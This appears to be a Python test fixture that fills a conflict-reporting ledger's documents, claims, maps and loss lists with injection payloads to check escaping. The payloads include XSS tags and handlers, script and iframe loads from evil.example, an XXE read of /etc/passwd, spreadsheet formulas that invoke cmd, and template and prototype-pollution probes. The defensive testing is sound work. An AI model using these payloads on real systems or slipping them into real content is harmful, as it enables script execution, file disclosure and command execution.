"""Words that attack whoever shows them, and a ledger in which they stand in every field that others write.

The list was put together from the ways in which words become something else: markup in HTML, SVG and XML,
addresses that run, templates, the ends of scripts, data and comments, names that scripts know, marks that
turn or hide words, formulas of spreadsheets, and sheer length.
"""

from __future__ import annotations

import datetime as dt
import hashlib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace

import shapely
from publishing_handmade import DAY, NOW, PLACES, PROFILE, FakeGazetteer, claim, document

from oskil.ledger.amendment import Amendment
from oskil.ledger.store import Ledger
from oskil.pipeline.data import Found
from oskil.places.layers import Layer, LayerFeature
from oskil.records import (
    Claim,
    ControlArea,
    ControlMap,
    DataSource,
    Document,
    LossEntry,
    LossList,
    Part,
    Period,
    Place,
    Quantity,
    Reading,
    Refusal,
    Toponym,
)

# What runs leaves a mark, and asks the reader.
RUN = "window.__hit=(window.__hit||0)+1;alert(1)"
HIT = "() => window.__hit || 0"

TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    '<script src="https://evil.example/x.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s /></svg>',
    f'<svg><script xlink:href="data:text/javascript,{RUN}"></script></svg>',
    f'<svg><foreignObject><body onload="{RUN}"/></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<marquee onstart="{RUN}">',
    '<iframe src="https://evil.example/"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css';</style>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<form action="https://evil.example/"><button formaction="javascript:{RUN}">go</button></form>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template><plaintext>",
]
ATTRIBUTES = [
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}",
    'x" style="background:url(https://evil.example/)" y="',
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://courier.example/",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/x",
    "https://user:secret@evil.example/",
]
CLOSERS = [
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea></noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"]]></value></Data><Placemark><name>{RUN}</name>",
    f'"}});{RUN};//',
    f"';{RUN};//\\",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"*/{RUN}/*",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
]
TEMPLATES = [
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{n} {name} {0} %s %(name)s $1 $& $`",
    "{{constructor}}",
]
ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "&amp;lt;b&amp;gt; &quot;",
]
NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "../../core", "undefined", "NaN"]
MARKS = [
    "safe \u202egnirts\u2066 end\u2069",
    "one\u2028two\u2029three",
    "nul\x00bell\x07escape\x1b[31m",
    "zero\u200bwidth\ufeffmarks\u2060",
    "Z\u0351\u0343\u036b" + "\u0489\u0321" * 30 + "algo",
    "\U000e0001\U000e0041tagged",
    "\ufffe\uffffnoncharacters",
]
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "\t=1+1",
    "\r=1+1",
    '",=1+1,"',
]
LONG = ["W" * 800, "<b>" * 150]
ATTACKS: Sequence[str] = (
    TAGS + ATTRIBUTES + ADDRESSES + CLOSERS + TEMPLATES + ENTITIES + NAMES + MARKS + FORMULAS + LONG
)

HOSTILE_PROFILE = replace(
    PROFILE,
    parties=tuple(replace(p, name=f"{p.name} {TAGS[5]}") for p in PROFILE.parties),
)
TITLE = f"War {CLOSERS[1]} {TAGS[5]} {ATTRIBUTES[0]}"


def place_of(number: int) -> Place:
    """The place that bears an attack for a name."""
    lat, lon = 48.2 + number % 9 * 0.3, 34.4 + number // 9 * 0.4
    return Place(100 + number, ATTACKS[number], "settlement", lat, lon, "XA", "07", 900 + number)


class HostileGazetteer(FakeGazetteer):
    """A gazetteer of the user's own, whose names are attacks."""

    def __init__(self) -> None:
        super().__init__([*PLACES, *(place_of(n) for n in range(len(ATTACKS)))])

    @property
    def source(self) -> DataSource:
        return DataSource(f"gazetteer {TAGS[5]}", CLOSERS[0], "0" * 64)

    def names(self, place_id: int) -> Sequence[str]:
        own = super().names(place_id)
        return [*own, f"{own[0]} other", f"{own[0]} інша"]


@dataclass
class _Page:
    """A text put together line by line; claims are found in it again by their lines."""

    lines: list[str]

    def add(self, line: str) -> str:
        self.lines.append(line)
        return line


def texts(number: int) -> Iterator[tuple[Document, Reading]]:
    """A report in which one attack stands everywhere, a post that repeats it, and a later revision."""
    a, day = ATTACKS[number], Period(DAY, DAY + dt.timedelta(days=number % 3))
    place = place_of(number)
    page = _Page([a])
    held = page.add(f"{a} Ministry: Arden holds {place.name} now")
    denied = page.add(f"Bork holds {place.name} all the same {a}")
    far = page.add(f"{place.name} is 70 kilometers north of Varnik {a}")
    lost = page.add(f"{a} Bork lost 12 vehicles on Thursday")
    will = page.add(f"{a} Arden will hold {place.name} within days")
    nowhere = page.add(f"Smoke over {a} hill")
    post = page.add(f"Post words {a}")
    text = "\n\n".join(page.lines)
    at = text.index(post)
    doc = document(
        text,
        f"key {number} {a}",
        title=a,
        outlet=f"{a} News",
        authors=(f"{a} Byline",),
        url=a,
        language=a,
        found={"published": a},
        parts=(Part(at, at + len(post), "embed", f"@heron_77 {a}", a),),
    )
    who = f"{a} Ministry"
    claims = (
        claim(
            doc,
            held,
            "control",
            speaker=who,
            side="AR",
            relays=(f"{a} Agency",),
            places=(place.id,),
            holder="AR",
            time=day,
        ),
        claim(doc, denied, "control", side="BO", places=(place.id,), holder="BO", time=day),
        claim(
            doc,
            far,
            "background",
            speaker=who,
            places=(place.id, 1),
            quantities=(_figure(text, far, "70", "km"),),
        ),
        claim(
            doc,
            lost,
            "losses",
            speaker=who,
            side="AR",
            quantities=(_figure(text, lost, "12", "item"),),
            time=Period(DAY, DAY),
        ),
        claim(doc, will, "forecast", speaker=who, side="AR", places=(place.id,), holder="AR"),
        claim(doc, post, "harm", speaker="heron_77", places=(place.id,), evidence="footage", time=day),
    )
    yield doc, Reading(doc.id, f"reader {a}", claims, (), tuple(_names(doc, place, nowhere, a)))
    again = document(held, f"post {number} {a}", title=f"{a} again", outlet=f"{a} Post")
    same = claim(again, held, "control", speaker=who, side="AR", places=(place.id,), holder="AR", time=day)
    yield again, Reading(again.id, f"reader {a}", (same,))
    if number % 10 == 0:
        newer = replace(again, id=hashlib.sha256(f"newer {number}".encode()).hexdigest(), text=f"{held} {a}")
        yield (
            newer,
            Reading(newer.id, "reader", (claim(newer, held, "control", places=(place.id,), holder="AR"),)),
        )


def _figure(text: str, line: str, digits: str, unit: str) -> Quantity:
    start = text.index(digits, text.index(line))
    return Quantity(value=float(digits), unit=unit, start=start, end=start + len(digits))


def _names(doc: Document, place: Place, nowhere: str, a: str) -> Iterator[Toponym]:
    at = doc.text.index("Arden holds ") + len("Arden holds ")
    yield Toponym(start=at, end=at + len(place.name), phrase=place.name, place=place, why=f"{a} why")
    at = doc.text.index("70 kilometers") - len(" is ") - len(place.name)
    yield Toponym(start=at, end=at + len(place.name), phrase=place.name, place=place, why=f"{a} why")
    at = doc.text.index("north of Varnik") + len("north of ")
    yield Toponym(start=at, end=at + 6, phrase="Varnik", place=PLACES[0], why=a)
    at = doc.text.index(nowhere) + len("Smoke over ")
    yield Toponym(start=at, end=at + len(a), phrase=a, reason=f"{a} no place")


def fill(ledger: Ledger) -> None:
    """Put every attack into a ledger, with what corrects the texts and what could not be read."""
    for number, a in enumerate(ATTACKS):
        for order, (doc, reading) in enumerate(texts(number)):
            at = NOW - dt.timedelta(days=5 - order)
            ledger.add(doc, doc.text.encode("utf-8", "surrogatepass"), reading, at)
            if order == 0:
                amendment = Amendment(
                    action="correction",
                    noun="document",
                    target=doc.id,
                    document=doc.id,
                    by=a,
                    reason=f"{a} reason",
                    fields={"title": f"{a} corrected"},
                )
                ledger.amend(amendment, at + dt.timedelta(hours=1))
        ledger.refuse(Refusal(f"/home/x/{a}", f"{a} broken"), NOW)


def beside() -> Found:
    """Control maps, loss lists and layers whose names, notes, kinds and models are attacks."""
    numbered = list(enumerate(ATTACKS))
    return Found(
        maps=tuple(_map(n, a) for n, a in numbered),
        losses=tuple(_losses(n, a) for n, a in numbered),
        layers=tuple(_layer(n, a) for n, a in numbered),
    )


def _source(sort: str, number: int, a: str) -> DataSource:
    return DataSource(f"{a} file", a, hashlib.sha256(f"{sort} {number}".encode()).hexdigest())


def _map(number: int, a: str) -> ControlMap:
    west, east = shapely.box(34, 48, 36.4, 51), shapely.box(36.4, 48, 38.6, 51)
    areas = (
        ControlArea(status=a, wkb=west.wkb, holder="AR", name=a),
        ControlArea(status=a, wkb=east.wkb, holder="BO", name=a),
    )
    # One keeper has a map of each day, so that the checks have a series to look at.
    day = DAY + dt.timedelta(days=number % 6)
    who = f"{ATTACKS[5]} keeper" if number < 6 else a
    source = _source("map", number, a)
    return ControlMap(assessor=who, day=day, areas=areas, source=source, notes=(f"{a} note",))


def _losses(number: int, a: str) -> LossList:
    entries = tuple(
        LossEntry(
            id=f"{number}-{n}",
            side=("AR", "BO")[n % 2],
            category=f"{a} kind",
            item=f"{a} model",
            status=a,
            listed=DAY + dt.timedelta(days=n % 4),
            evidence=a,
        )
        for n in range(6)
    )
    source = _source("losses", number, a)
    return LossList(assessor=f"{a} keeper", entries=entries, source=source, notes=(f"{a} note",))


def _layer(number: int, a: str) -> Layer:
    line = shapely.LineString([(34.5 + number * 0.05, 48.2), (35 + number * 0.05, 50.5)])
    shape = LayerFeature(f"{a} river", (f"{a} river",), f"{a} river", line, {a: a})
    return Layer(a, [shape], _source("layer", number, a))


def claims_of(number: int) -> Sequence[Claim]:
    """The claims of one attack's report."""
    return next(texts(number))[1].claims
